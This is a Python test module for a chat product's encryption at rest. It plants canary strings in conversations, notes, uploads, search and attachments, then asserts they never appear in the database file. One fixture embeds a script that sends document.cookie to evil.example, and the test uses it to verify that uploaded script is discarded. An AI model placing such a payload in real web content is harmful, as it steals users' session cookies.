"""What a stolen database shows after a real conversation: no message body, no secret."""

from __future__ import annotations

from datetime import timedelta

from parlour.knowledge.embeddings import shared_minilm
from parlour.search.service import Query
from parlour.services import Services
from tests.conftest import Stack
from tests.customers.test_panel import admitted
from tests.support import canaries, files, seed
from tests.support.assistants import ask
from tests.support.chat import authenticate, is_assistant_message, open_socket, receive_until, say
from tests.support.dump import every_cell, sqlite_files


async def test_a_database_dump_after_a_conversation_holds_no_plaintext_body_or_secret(
    stack: Stack, sqlite_url: str
) -> None:
    """T-46, T-48, T-49: message bodies and answers, FAQ text, API key secrets, tokens and
    signing keys appear nowhere in the database file, its WAL, or any cell."""
    org = await seed.organisation(stack.services)
    token = await seed.token_for(stack.services, org)
    question = canaries.register("What are your opening hours? CANARY7731")
    async with open_socket(stack.ws_url, org.widget_id, org.origin) as ws:
        await authenticate(ws, token)
        await say(ws, question)
        answer = (await receive_until(ws, is_assistant_message))[-1]
    assert answer["text"] == "We are open Monday to Friday, 9:00 to 17:00."
    key = await stack.services.signing_keys.ensure(org.tenant_id)
    signing_key = (await stack.services.signing_keys.private_key(key)).private_bytes_raw()

    raw = sqlite_files(sqlite_url)
    cells = await every_cell(stack.services)
    secrets = {
        "question": question,
        "answer": answer["text"],
        "faq question": "How do I block my card?",
        "api key": org.api_key,
        # parlour_sk_<key id>_<secret>: the secret may itself hold underscores.
        "api key secret part": org.api_key.split("_", 3)[3],
        "token": token,
    }
    for name, value in secrets.items():
        assert value.encode() not in raw, f"{name} is in the database file"
        assert value not in cells, f"{name} is in a cell"
    assert signing_key not in raw


async def test_an_uploaded_file_is_kept_only_as_sealed_passages_never_as_the_file(
    stack: Stack, sqlite_url: str
) -> None:
    """T-63, T-48: an uploaded page is neither stored as a file (so it can never be served
    back as HTML) nor readable in the database: its passages are sealed, its script gone."""
    org = await seed.organisation(stack.services, faq=None)
    page = (
        b"<html><head><script>document.location='https://evil.example/'+document.cookie"
        b"</script></head><body><h1>Branches</h1><p>Open Saturdays CANARY5519.</p></body></html>"
    )
    report = await stack.services.knowledge.upload(
        org.tenant_id, "branches.html", page, actor=seed.ACTOR
    )
    assert report.imported == 1
    raw = sqlite_files(sqlite_url)
    cells = await every_cell(stack.services)
    for fragment in (b"CANARY5519", b"evil.example", b"<script>", b"<h1>"):
        assert fragment not in raw
        assert fragment.decode() not in cells
    assert list((stack.services.settings.data_dir).rglob("branches.html")) == []


async def test_a_question_the_assistant_could_not_answer_is_kept_only_sealed(
    services: Services, sqlite_url: str
) -> None:
    """T-46, T-48: the question kept for the knowledge gaps report, and its embedding, are
    sealed like the message they came from; neither is readable in the file or any cell."""
    org = await seed.organisation(services)
    question = canaries.register("Do you insure racing pigeons? CANARY6604")
    answer = await ask(services, services.assistant, org, question)
    assert answer is not None
    now = services.clock()
    report = await services.knowledge.gaps.clusters(
        org.tenant_id, now - timedelta(days=1), now + timedelta(days=1)
    )
    assert [c.label.question for c in report.clusters] == [question]
    raw = sqlite_files(sqlite_url)
    cells = await every_cell(services)
    assert b"CANARY6604" not in raw
    assert "CANARY6604" not in cells
    vector = shared_minilm().embed([question])[0].astype("<f4").tobytes()
    assert vector[:64] not in raw


async def test_a_private_note_and_a_canned_reply_are_kept_only_sealed(
    services: Services, sqlite_url: str
) -> None:
    """T-46, T-48, T-99: an agent's note and the organisation's canned reply are sealed like
    messages; neither is readable in the database file, its WAL, or any cell."""
    org = await seed.organisation(services, faq=None)
    conversation = await services.chat.open_conversation(org.tenant_id, "customer-1")
    note = canaries.register("Customer disputes the charge CANARY2290")
    reply = canaries.register("Your refund is on its way CANARY2291")
    await services.notes.add(org.tenant_id, conversation.conversation_id, note, actor=seed.ACTOR)
    await services.canned_replies.create(org.tenant_id, "refund", reply, actor=seed.ACTOR)
    raw = sqlite_files(sqlite_url)
    cells = await every_cell(services)
    for fragment in ("CANARY2290", "CANARY2291"):
        assert fragment.encode() not in raw
        assert fragment not in cells


async def test_the_search_index_and_customer_profiles_hold_no_plaintext(
    services: Services, sqlite_url: str
) -> None:
    """T-46, T-48: the blind index keeps keyed tags of words, never a word (in any case), and
    a customer's verified name and e-mail are sealed like their messages."""
    org = await seed.organisation(services, faq=None)
    said = canaries.register("Where is my Quokkacard CANARY3391 parcel?")
    conversation = await services.chat.open_conversation(org.tenant_id, "customer-1")
    await services.chat.post_user_message(
        org.tenant_id, conversation.conversation_id, client_id="c1", text=said
    )
    assert await services.search_indexer.index_round() == 1
    found = await services.search.search(org.tenant_id, Query(text="quokkacard canary3391"))
    assert [f.conversation.conversation_id for f in found] == [conversation.conversation_id]
    traits = {"name": "Zebedee Quill", "email": "zebedee.quill@example.com"}
    minted = await services.end_user_tokens.mint(
        org.tenant_id,
        widget_id=org.widget_id,
        user_id="customer-1",
        origin=org.origin,
        traits=traits,
    )
    await admitted(services, org, {"type": "auth", "token": canaries.register(minted.token)})
    panel = await services.customer_panel.panel(org.tenant_id, conversation.conversation_id)
    assert panel.profile is not None
    assert panel.profile.traits == traits

    raw = sqlite_files(sqlite_url).lower()
    cells = (await every_cell(services)).lower()
    for word in ("quokkacard", "canary3391", "parcel", "zebedee", "quill"):
        assert word.encode() not in raw, f"{word} is in the database file"
        assert word not in cells, f"{word} is in a cell"


async def test_t102_an_attachment_its_name_and_its_thumbnail_are_kept_only_sealed(
    services: Services, sqlite_url: str
) -> None:
    """T-102, T-48: a customer's file (a PDF whose text, and an image whose pixels and
    metadata, are marked), its name, and the image's thumbnail are in neither the database file,
    its WAL, nor any cell: only the type and size are in the clear."""
    org = await seed.organisation(services, faq=None)
    conversation = await services.chat.open_conversation(org.tenant_id, "customer-1")
    document = files.pdf("STATEMENTMARK8812")
    image = files.png(64, 64, text={"Author": "PIXELOWNER8813"})
    agent = seed.ACTOR
    stored = []
    for name, data in (("statement-NAMEMARK8814.pdf", document), ("me-NAMEMARK8815.png", image)):
        stored.append(
            await services.attachments.upload(
                org.tenant_id, conversation.conversation_id, name, data, actor=agent
            )
        )
    await services.desk.reply(
        org.tenant_id,
        conversation.conversation_id,
        "Here",
        actor=agent,
        attachment_ids=[s.attachment_id for s in stored],
    )
    raw = sqlite_files(sqlite_url)
    cells = await every_cell(services)
    for fragment in ("STATEMENTMARK8812", "PIXELOWNER8813", "NAMEMARK8814", "NAMEMARK8815"):
        assert fragment.encode() not in raw
        assert fragment not in cells
    assert document[:64] not in raw
    assert image[-64:] not in raw
